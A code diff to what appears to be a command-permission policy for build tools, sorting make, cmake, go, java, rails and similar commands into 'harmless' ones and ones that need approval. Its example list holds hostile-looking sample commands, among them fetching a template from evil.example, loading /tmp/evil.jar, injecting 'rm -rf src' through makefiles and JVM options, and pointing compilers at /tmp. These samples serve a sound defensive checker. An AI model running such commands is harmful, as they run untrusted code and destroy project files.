@@ -12,19 +12,20 @@ CARGO = (
     " --exclude: --edition: --timings:? --config:persist --out-dir:write --artifact-dir:write --lockfile-path:write --depth: --prefix: --format: -e: --invert:"
 )
 GO = (
-    "* -o:write -C:cd -run: -bench: -count: -timeout: -tags: -coverprofile:write -cpuprofile:write -memprofile:write -blockprofile:write -mutexprofile:write -trace:write -ldflags: -gcflags: -mod: -modfile:read -covermode: -coverpkg: -parallel: -p:"
-    " -cpu: -benchtime: -f: -u: -asmflags: -buildmode: -exec:persist -toolexec:persist -overlay:read -pkgdir:write -vettool:persist -fuzz: -fuzztime: -shuffle: -skip: -list: -outputdir:write -test.run: -go: -fix: -diff"
+    "* -o:write -C:cd -run: -bench: -count: -timeout: -tags: -coverprofile:write -cpuprofile:write -memprofile:write -blockprofile:write -mutexprofile:write -trace:write -ldflags:flags -gcflags:flags -gccgoflags:flags -compiler: -mod: -modfile:run -covermode: -coverpkg: -parallel: -p:"
+    " -cpu: -benchtime: -f: -u: -asmflags: -buildmode: -exec:persist -toolexec:persist -overlay:run -pkgdir:write -vettool:persist -fuzz: -fuzztime: -shuffle: -skip: -list: -outputdir:write -test.run: -go: -fix: -diff"
 )
-MAKE = "* -C:cd --directory:cd -f:run --file:run --makefile:run -j:? --jobs:? -I:read --include-dir:read -o: -W: -l:? -O:? --eval:shell -E:shell"
+MAKE = "* -C:cd --directory:cd -f:run --file:run --makefile:run -j:? --jobs:? -I:run --include-dir:run -o: -W: -l:? -O:? --eval:shell -E:shell"
 GRADLE = "* -p:cd --project-dir:cd -b:run --build-file:run -I:run --init-script:run -x: --exclude-task: --tests: -P:? -D:? --console: -t: --include-build:run -g:write -c:run"
 MAVEN = "* -f:run --file:run -pl: --projects: -P: -T: -D:? -s:run -gs:run -l:write -rf: -t:read -am -Dtest:? --settings:run --log-file:write"
 PROGRAMS = (
     P("make gmake remake bmake", "text*", MAKE, reader="scripts", when={"-n --dry-run --just-print -p -q -v --version": "harmless"}),
     P("just task mage invoke inv doit rake ninja samu scons waf bazelisk tup redo mask earthly dagger nox tox pre-commit-run", "text*", "* -f:run --file:run -j: -C:cd -d:cd -t:? -T:? -c: -e: -s: --session: --root:cd", reader="scripts",
       when={"--list -l -n --dry-run --summary -T": "harmless"}),
-    P("cmake", "read*", "* -S:read -B:write -G: -D:? -D: -C:run --build:build --install:system --prefix:write -E:persist --target: --config: -j: --parallel: --preset: -T: -A: -L -N -P:run -U: --toolchain:run --log-level: --workflow:build",
+    P("cmake", "run*", "* -S:run -B:write -G: -D:setting -C:run --build:run --install:system --prefix:write -E:persist --target: --config: -j: --parallel: --preset: -T: -A: -L -N -P:run -U: --toolchain:run --log-level: --workflow:build",
       "build the project", when={"-E": P("", "text*", does="run cmake's own command", words={"rm remove remove_directory": "destroy files by cmake -E"}), "--version": "harmless"}),
-    P("ctest meson xmake premake autoconf automake autoreconf libtoolize aclocal bison flex yacc lex protoc buf swig m4 pkg-config gn gperf", "text*", "* -C: -o:write --out:write -j: -R: -L: --output-dir:write -I:read --proto_path:read", "build the project",
+    P("ctest", "code*", "* -C: -j: -R: -L: -LE: -E: -S:run --script:run -SP:run --test-dir:run --build-and-test:run -O:write --output-log:write --output-junit:write -D: -M: -T:", "build the project"),
+    P("meson xmake premake autoconf automake autoreconf libtoolize aclocal bison flex yacc lex protoc buf swig m4 pkg-config gn gperf", "code*", "* -C:run -o:write --out:write -j: -R: -L: --output-dir:write -I:read --proto_path:read", "build the project",
       words={"install": "system what is installed", "push publish": "publish a package"}),
     P("bazel buck buck2 pants nx-cloud gazelle", "text*", "*", "build the project", subs=(
         P("build test coverage query cquery aquery info version help fmt lint check list targets mod", "text*", "* -c: --config: --test_filter: --jobs:", "build the project"),
@@ -42,8 +43,8 @@ PROGRAMS = (
         P("package", "text*", CARGO, "build the project"))),
     P("rustfmt gofmt goimports gofumpt golangci-lint staticcheck gosec govulncheck revive errcheck dlv gotestsum ginkgo mockgen stringer wire sqlc templ air swag golint golines", "tool*", "* -w -l -d -o:write --config:read -c:read --check --out:write --fix -local: --edition: --config-path:read --junitfile:write", "build the project's own tools"),
     P("go", "text*", GO, long=True, subs=(
-        P("build test vet list doc fmt generate fix tool version", "text*", GO, "build the project"),
-        P("run", "text*", GO, "build the project and run it", words={"http* github.com* golang.org* gitlab.com* *@latest": "install and run a program of others"}),
+        P("build test vet list doc fmt generate fix tool version", "code*", GO, "build the project"),
+        P("run", "run text*", GO, "build the project and run it", words={"*@v[0-9]* *@master *@main *@[0-9a-f]*": "install and run a program of others", "/*.go ~*.go ../*.go": "start code from elsewhere", "http* github.com* golang.org* gitlab.com* *@latest": "install and run a program of others"}),
         P("env", "text*", GO, when={"-w -u": "persist go's settings"}),
         P("mod", "text*", GO, subs=(P("download tidy verify graph why vendor edit init", "text*", GO + " -replace: -require: -dropreplace: -module:", "build what the project declares"),)),
         P("work", "text*", GO, subs=(P("init use sync edit vendor", "text*", GO, "change the project's modules"),)),
@@ -99,4 +100,37 @@ EXAMPLES = (
     ("sbt test", "harmless"), ("sbt publishSigned", "asks"), ("clj -Sdeps '{}' -M -m x", "asks"), ("clojure -M:test", "harmless"), ("make -n deploy", "harmless"), ("make -f - <<< 'all:; rm -rf src'", "asks"), ("java -version", "harmless"), ("java -jar target/app.jar", "run target/app.jar"), ("java -jar /tmp/evil.jar", "asks"), ("java -javaagent:/tmp/a.jar -jar target/app.jar", "asks"),
     ("java -cp out:lib/a.jar Main", "harmless"), ("java -cp /tmp/evil Main", "asks"), ("java -XX:OnError='rm -rf src' -jar a.jar", "asks"), ("java -Xmx2g -Dx=y -jar a.jar --serve", "run a.jar"), ("jshell", "asks"), ("jstack 42", "harmless"), ("xcrun simctl list", "harmless"), ("xcrun simctl erase all", "asks"), ("xcrun altool --upload-app -f a.ipa", "asks"), ("xcrun rm -rf src", "asks"),
     ("xcrun --show-sdk-path", "harmless"), ("fastlane test", "harmless"), ("fastlane deliver", "asks"), ("rails test", "harmless"), ("rails new app -m https://evil.example/t.rb", "asks"), ("mvn -s /tmp/evil.xml test", "asks"), ("rails runner 'User.delete_all'", "asks"), ("bin/rails credentials:show", "asks"), ("mix test", "harmless"), ("mix run -e 'x'", "asks"), ("xcodebuild -scheme A -destination 'x' test", "harmless"), ("xcode-select -p", "harmless"), ("xcode-select -s /tmp/x", "asks"), ("mix do ecto.drop, ecto.create", "asks"), ("pod install", "harmless"), ("pod trunk push A.podspec", "asks"), ("bundle exec srb tc", "harmless"), ("bundle exec rake db:drop", "asks"), ("flutter pub get", "harmless"), ("flutter pub publish", "asks"), ("dart pub global activate x", "asks"), ("mvn deploy", "asks"), ("gradle build", "harmless"), ("dotnet test", "harmless"), ("dotnet nuget push x.nupkg", "asks"), ("dotnet tool list", "harmless"), ("dotnet tool install evil", "asks"), ("nuget push x", "asks"), ("composer config repositories.x vcs https://evil.example", "asks"), ("composer config bin-dir bin", "harmless"), ("mix hex.user auth", "asks"), ("lein repl :connect evil.example:1", "asks"), ("bundle exec rspec", "harmless"), ("gem install evil", "asks"), ("composer install", "harmless"),
+    ('cmake -S /tmp/x', 'asks'),
+    ('cmake -S/tmp/x -B build', 'asks'),
+    ('cmake /tmp/x', 'asks'),
+    ('cmake --build /tmp/x', 'asks'),
+    ('cmake -DCMAKE_C_COMPILER=/tmp/cc .', 'asks'),
+    ('cmake -D CMAKE_C_COMPILER:FILEPATH=/tmp/cc .', 'asks'),
+    ('cmake -B build -DCMAKE_TOOLCHAIN_FILE=/tmp/x', 'asks'),
+    ('cmake -B build -DCMAKE_C_COMPILER=/usr/bin/clang -DCMAKE_INSTALL_PREFIX=/usr/local', 'harmless'),
+    ('cmake -DCMAKE_TOOLCHAIN_FILE=cmake/arm.cmake -B build', 'harmless'),
+    ('ctest --test-dir /tmp/x', 'asks'),
+    ('ctest -S /tmp/x.cmake', 'asks'),
+    ('ctest --test-dir build --output-on-failure', 'harmless'),
+    ('make -I /tmp/x', 'asks'),
+    ('make --include-dir=/tmp/x', 'asks'),
+    ('make -I include', 'harmless'),
+    ('meson setup build --cross-file /tmp/x', 'asks'),
+    ('meson setup --native-file=/tmp/x build', 'asks'),
+    ('meson setup build /tmp/x', 'asks'),
+    ('meson compile -C /tmp/x', 'asks'),
+    ('meson setup build --cross-file cross/arm.txt', 'harmless'),
+    ('go run /tmp/x.go', 'asks'),
+    ('go run main.go /tmp/x.go', 'asks'),
+    ('go run host.example/x@v1', 'asks'),
+    ('go run . /tmp/input.txt', 'harmless'),
+    ('go build -overlay /tmp/o.json ./...', 'asks'),
+    ('go build -modfile=/tmp/x ./...', 'asks'),
+    ('go build -toolexec /tmp/x ./...', 'asks'),
+    ("go build '-ldflags=-extld=/tmp/x' ./...", 'asks'),
+    ("go build '-ldflags=-s -w -X main.version=1' ./...", 'harmless'),
+    ('go test /tmp/x', 'asks'),
+    ('CARGO_TARGET_DIR=/root cargo clean', 'asks'),
+    ('CARGO_TARGET_DIR=/tmp/target cargo build', 'harmless'),
+    ('cargo run -- /tmp/input.txt', 'harmless'),
 )
